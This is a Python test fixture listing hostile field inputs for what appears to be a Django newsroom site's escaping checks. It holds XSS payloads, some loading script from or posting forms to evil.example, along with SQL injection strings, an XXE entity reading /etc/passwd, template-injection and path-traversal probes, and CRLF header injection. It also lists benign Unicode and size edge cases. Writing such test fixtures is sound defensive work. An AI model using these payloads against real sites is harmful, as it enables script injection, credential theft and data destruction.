"""
The hostile strings: what an attacker, a careless paste or an unusual script puts
in a field. ``PWN`` marks where a payload would run: the checkers replace it with
the name of the field it was typed into, so a leak names its field.
"""

MARK = "PWN"

HOSTILE = {
    # Markup in every context it could break out of.
    "script-tag": "<script>alert('PWN')</script>",
    "script-src-upper": "<SCRIPT SRC=//evil.example/PWN.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert('PWN')>",
    "dq-attr-breaker": "\"><img src=x onerror=alert('PWN')>",
    "sq-attr-breaker": "'><svg onload=alert('PWN')>",
    "dq-attr-event": "\" autofocus onfocus=\"alert('PWN')",
    "sq-attr-event": "' autofocus onfocus='alert(`PWN`)",
    "unquoted-attr-event": "x onmouseover=alert('PWN') y",
    "close-title": "</title><script>alert('PWN')</script>",
    "close-textarea": "</textarea><script>alert('PWN')</script>",
    "close-script": "</script><script>alert('PWN')</script>",
    "close-script-mixed-case": "</ScRiPt ><img src=x onerror=alert('PWN')>",
    "html-comment-opener": "<!--<img src=x onerror=alert('PWN')>-->",
    "cdata-section": "<![CDATA[<img src=x onerror=alert('PWN')>]]>",
    "svg-onload": "<svg/onload=alert('PWN')>",
    "iframe": '<iframe src="https://evil.example/PWN"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"&lt;script&gt;alert('PWN')&lt;/script&gt;\"></iframe>",
    "object-embed": "<object data=\"javascript:alert('PWN')\"></object><embed src=PWN>",
    "style-url": "<div style=\"background:url(javascript:alert('PWN'))\">x</div>",
    "style-element": "<style>body{background:url('//evil.example/PWN')}</style>",
    "math-mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert('PWN')>",
    "noscript-mutation": "<noscript><p title=\"</noscript><img src=x onerror=alert('PWN')>\">",
    "form-action": '<form action="https://evil.example/PWN"><button>Go</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/PWN">',
    "base-href": '<base href="https://evil.example/PWN/">',
    "link-javascript": "<a href=\"javascript:alert('PWN')\">read more</a>",
    "link-javascript-entities": "<a href=\"jav&#x09;ascript:alert('PWN')\">read more</a>",
    "link-data-html": '<a href="data:text/html;base64,PHNjcmlwdD4=">PWN</a>',
    "link-vbscript": "<a href=\"vbscript:msgbox('PWN')\">read more</a>",
    "javascript-url": "javascript:alert('PWN')",
    "javascript-url-spaced": " JaVaScRiPt:alert('PWN')",
    "data-url": "data:text/html,<script>alert('PWN')</script>",
    "markdown-link": "[click](javascript:alert('PWN')) ![x](x\"onerror=\"alert('PWN'))",
    "fullwidth-brackets": "＜script＞alert('PWN')＜/script＞",
    "escaped-entities": "&lt;script&gt;alert('PWN')&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "json-ld-breaker": '"}]}, "@type": "Evil", "x": "PWN',
    "json-unicode-escape": "\\u003c/script\\u003e\\x3cimg src=x onerror=alert('PWN')\\x3e",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; PWN',
    # Template and query syntax: shown as typed, never evaluated.
    "django-variable": "{{ settings.SECRET_KEY }} {{ request.META }} PWN",
    "django-tag": "{% debug %}{% load static %}{% csrf_token %} PWN",
    "other-templates": "${7*7} #{7*7} <%= 7*7 %> {{7*'7'}} PWN",
    "sql-quote": "'; DROP TABLE articles_article; -- PWN",
    "sql-union": '" OR 1=1 UNION SELECT password FROM auth_user -- PWN',
    "like-wildcards": "%_%\\ PWN %%",
    "search-syntax": 'NEAR(a b) OR "unbalanced AND -( * ^ PWN',
    # Sizes and emptiness.
    "long-10k-words": ("harbour " * 1250) + "PWN",
    "long-20k-one-word": "x" * 20000,
    "empty": "",
    "whitespace-only": " \t  \u00a0 ",
    "newlines-only": "\r\n\r\n\n",
    # Pasted and invisible characters.
    "word-paste-vt-ff": "Ferry\x0breturns\x0cto the harbour PWN",
    "c0-controls": "Ferry" + "".join(chr(c) for c in range(1, 32) if c not in (9, 10, 13)) + "PWN",
    "nul": "Fer\x00ry PWN",
    "del-and-c1": "Ferry\x7f\x80\x85\x9f PWN",
    "noncharacters": "Ferry\ufffe\uffff PWN",
    "bidi-override": "Ferry \u202eexe.fdp\u202c PWN",
    "bidi-isolates": "\u2066Ferry\u2069 \u2067returns\u2069 \u2068PWN\u2069",
    "zero-width": "Fe\u200brry\u200c re\u200dturns\u2060\ufeff",
    "line-separators": "Ferry\u2028returns\u2029home PWN",
    "crlf-header-injection": "Ferry\r\nSet-Cookie: pwned=1\r\nX-PWN: 1",
    # Scripts and symbols.
    "sorani-zwnj": "هەواڵە کوردی\u200cیەکانی ھەولێر",
    "arabic": "مرحبا بالعالم — ميناء الإسكندرية",
    "kurmanji": "Rojnameya Kurdî: çûn, şêwe, xweş û êvar",
    "emoji-zwj": "👩🏽‍⚕️ 🇳🇴 🏳️‍🌈 ⚓ 👨‍👩‍👧‍👦",
    "combining-marks": "Z̴̡̢a̷͎l̵g̶o̸ cafe\u0301 e\u0301\u0301\u0301",
    "astral-plane": "𝕳𝖆𝖗𝖇𝖔𝖚𝖗 𠜎 𓀀",
    # Paths.
    "path-traversal": "../../../../etc/passwd",
    "path-traversal-encoded": "..%2f..%2f..%2fnewsroom%2fsettings.py",
    "windows-path": "..\\..\\windows\\win.ini",
    "url-encoded-script": "%3Cscript%3Ealert('PWN')%3C%2Fscript%3E",
}


def marked(value: str, field: str) -> str:
    """``value`` with its run marker naming ``field`` (``PWN`` -> ``PWN_headline``)."""
    return value.replace(MARK, f"{MARK}_{field}")


# Payloads whose point is markup (a leak would be a live tag or attribute).
MARKUP = {key for key, value in HOSTILE.items() if "<" in value or "javascript:" in value.lower()}
